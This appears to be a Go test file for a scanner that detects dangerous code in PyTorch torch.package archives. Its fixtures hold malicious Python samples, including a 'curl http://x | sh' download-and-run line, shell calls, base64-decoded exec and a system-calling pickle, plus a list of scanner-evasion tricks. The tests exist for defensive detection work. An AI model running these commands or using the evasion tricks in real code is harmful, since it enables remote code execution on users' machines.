package zipfmt_test

import (
	"os"
	"strings"
	"testing"

	"github.com/modelscan-go/modelscan/internal/core"
	"github.com/modelscan-go/modelscan/internal/pklasm"
	"github.com/modelscan-go/modelscan/internal/rules"
)

func TestTorchPackageReal(t *testing.T) {
	data, err := os.ReadFile("testdata/torchpackage/tiny_package.pt")
	if err != nil {
		t.Fatal(err)
	}
	s := scan(t, "tiny.pt", data, core.DefaultLimits())
	pc := find(s, rules.TorchPackageCode, core.High, "tiny.pt")
	if len(pc) != 1 || !strings.Contains(pc[0].Evidence, "tinypkg.tiny") {
		t.Fatalf("want one torch-package-code HIGH naming tinypkg.tiny\n%s", dump(s))
	}
	if extra := aboveLow(s, rules.TorchPackageCode); len(extra) > 0 || len(s.Problems) > 0 {
		t.Fatalf("benign package: unexpected findings or problems\n%s", dump(s))
	}
	scanned := strings.Join(s.Scanned, "\n")
	for _, m := range []string{"tinypkg/box.pkl", "model/model.pkl", "tinypkg/tiny.py"} {
		if !strings.Contains(scanned, "tiny.pt:tiny_package/"+m) {
			t.Errorf("%s not scanned\n%s", m, dump(s))
		}
	}
}

// pkgArchive is a crafted torch.package archive with the given members
// (relative to its folder) besides the metadata.
func pkgArchive(t *testing.T, extra ...member) []byte {
	ms := []member{
		{name: "evil/.data/version", data: []byte("6\n")},
		{name: "evil/.data/extern_modules", data: []byte("os\nbuiltins\n")},
	}
	for _, m := range extra {
		ms = append(ms, member{name: "evil/" + m.name, data: m.data})
	}
	return writeZip(t, ms)
}

// sourceFinding returns the source-dangerous-call findings of a member.
func sourceFindings(s *core.Session, src string) map[string]core.Finding {
	out := map[string]core.Finding{}
	for _, f := range find(s, rules.SourceDangerousCall, 0, src) {
		out[strings.TrimPrefix(f.Module+"."+f.Operator, ".")] = f
	}
	return out
}

func TestTorchPackageMaliciousSource(t *testing.T) {
	src := `"""helper"""
import os as o
from subprocess import check_output as co
import base64, builtins
from .util import helper   # packaged, harmless

def run(cmd="x"):
    o.system("curl http://x | sh")  # os.system
    co(["id"])
    exec(base64.b64decode("cHJpbnQoMSk="))
    with open("/tmp/out", "w") as f:
        f.write("x")
    data = open("/tmp/in").read()
    print(f"{getattr(o, 'popen')('id')}")
    ｅｖａｌ("1+1")
    return o.path.join("a", "b"), o.environ.get("HOME")
`
	box := pklasm.New().Proto(2).Global("mal.mod", "Box").EmptyTuple().NewObj().Stop().Bytes()
	data := pkgArchive(t,
		member{name: "mal/__init__.py", data: []byte("")},
		member{name: "mal/mod.py", data: []byte(src)},
		member{name: "mal/box.pkl", data: box},
		member{name: "mal/evil.pkl", data: pklasm.System("id")},
	)
	s := scan(t, "p.pt", data, core.DefaultLimits())
	if len(find(s, rules.TorchPackageCode, core.High, "p.pt")) != 1 {
		t.Fatalf("want torch-package-code\n%s", dump(s))
	}
	got := sourceFindings(s, "p.pt:evil/mal/mod.py")
	want := map[string]struct {
		sev core.Severity
		ev  string
	}{
		"os.system":               {core.Critical, "mal/mod.py:8: o.system('curl http://x | sh')"},
		"subprocess.check_output": {core.Critical, "mal/mod.py:9:"},
		"builtins.exec":           {core.Critical, "decoded by base64.b64decode"},
		"builtins.open":           {core.High, "mal/mod.py:11:"},
		"os.popen":                {core.Critical, "mal/mod.py:14:"},
		"builtins.eval":           {core.Critical, "mal/mod.py:15:"},
	}
	for name, w := range want {
		f, ok := got[name]
		if !ok || f.Severity != w.sev || !strings.Contains(f.Evidence, w.ev) {
			t.Errorf("%s: want %s with %q, got %+v", name, w.sev, w.ev, f)
		}
	}
	if len(got) != len(want) {
		t.Errorf("want exactly %d source findings\n%s", len(want), dump(s))
	}
	if len(find(s, "", 0, "p.pt:evil/mal/box.pkl")) != 0 {
		t.Errorf("a class of a packaged module is the archive's own\n%s", dump(s))
	}
	if f := find(s, rules.PickleDangerousImport, core.Critical, "p.pt:evil/mal/evil.pkl"); len(f) != 1 {
		t.Errorf("want posix.system CRITICAL in a package pickle\n%s", dump(s))
	}
}

func TestTorchPackageSourceEvasions(t *testing.T) {
	cases := map[string]struct{ src, name string }{
		"star import":    {"from os import *\nsystem('id')\n", "os.system"},
		"dotted import":  {"import urllib.request\nurllib.request.urlopen('http://x')\n", "urllib.request.urlopen"},
		"posix alias":    {"import posix\nposix.system('id')\n", "posix.system"},
		"dunder import":  {"__import__('os').system('id')\n", "builtins.__import__"},
		"builtins walk":  {"__builtins__.__dict__['ev'+'al']('1')\n", "__builtins__"},
		"continuation":   {"import os\nos.\\\n  system('id')\n", "os.system"},
		"importlib":      {"import importlib\nm = importlib.import_module('o'+'s')\n", "importlib.import_module"},
		"marshal":        {"import marshal\nexec(marshal.loads(b'...'))\n", "marshal.loads"},
		"reference":      {"import subprocess as sp\nrunner = sp.Popen\n", "subprocess.Popen"},
		"torch.load":     {"import torch\nm = torch.load('x.pt')\n", "torch.load"},
		"fstring nested": {"import os\nx = f\"{f'{os.system(\"id\")}'}\"\n", "os.system"},
	}
	for name, c := range cases {
		t.Run(name, func(t *testing.T) {
			s := scan(t, "p.pt", pkgArchive(t, member{name: "m.py", data: []byte(c.src)}), core.DefaultLimits())
			f, ok := sourceFindings(s, "p.pt:evil/m.py")[c.name]
			if !ok || f.Severity < core.High {
				t.Fatalf("want %s\n%s", c.name, dump(s))
			}
		})
	}
}

func TestTorchPackageSourceQuiet(t *testing.T) {
	// everyday source: no findings beyond the archive-level one
	src := "import os, sys, math, re\nimport torch\nfrom torch import nn\n\n" +
		"def compile(x):\n    return x\n\n" +
		"class M(nn.Module):\n    def forward(self, x, open=None):\n" +
		"        p = os.path.join(os.getcwd(), 'a')\n        v = sys.version_info\n" +
		"        s = re.compile('x')\n        c = compile(3)\n        f = open\n" +
		"        d = getattr(self, 'w')\n        t = 'os.system(1)'  # eval(x)\n" +
		"        with open('/etc/hosts') as fh:\n            fh.read()\n" +
		"        return torch.relu(x) * math.pi\n"
	s := scan(t, "p.pt", pkgArchive(t, member{name: "m.py", data: []byte(src)}), core.DefaultLimits())
	if extra := aboveLow(s, rules.TorchPackageCode); len(extra) > 0 {
		t.Fatalf("unexpected findings\n%s", dump(s))
	}
}
